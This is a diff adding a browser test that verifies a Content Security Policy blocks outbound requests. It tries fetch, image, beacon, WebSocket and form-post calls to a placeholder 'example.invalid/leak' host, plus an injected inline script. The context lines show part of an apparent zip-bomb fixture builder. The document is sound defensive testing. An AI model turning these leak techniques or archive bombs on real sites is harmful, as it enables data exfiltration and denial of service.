@@ -161,3 +161,33 @@ function bomb() {
   last.writeUInt32LE(offset, 16);
   return Buffer.concat([...locals, directory, last]);
 }
+
+test("the policy lets nothing out, whatever runs in the page", async () => {
+  const { page, close } = await opened();
+  // The browser tells of what it was asked for, and in the same breath that the policy stopped it.
+  const out = new Map();
+  page.on("request", (request) => out.set(request.url(), "sent"));
+  page.on("requestfailed", (request) => out.set(request.url(), request.failure().errorText));
+  const said = await page.evaluate(async () => {
+    const blocked = [];
+    addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
+    const address = "https://example.invalid/leak";
+    await fetch(address).catch(() => {});
+    new Image().src = address;
+    navigator.sendBeacon(address, "x");
+    try {
+      new WebSocket("wss://example.invalid/leak");
+    } catch {}
+    const form = Object.assign(document.createElement("form"), { action: address, method: "post" });
+    document.body.append(form);
+    form.submit();
+    const script = Object.assign(document.createElement("script"), { textContent: "window.broken = 1" });
+    document.body.append(script);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return { blocked: [...new Set(blocked)].sort(), broken: window.broken };
+  });
+  assert.deepEqual(said.blocked, ["connect-src", "form-action", "img-src", "script-src-elem"]);
+  assert.equal(said.broken, undefined);
+  assert.deepEqual([...out].filter(([, why]) => why !== "csp"), []);
+  await close();
+});
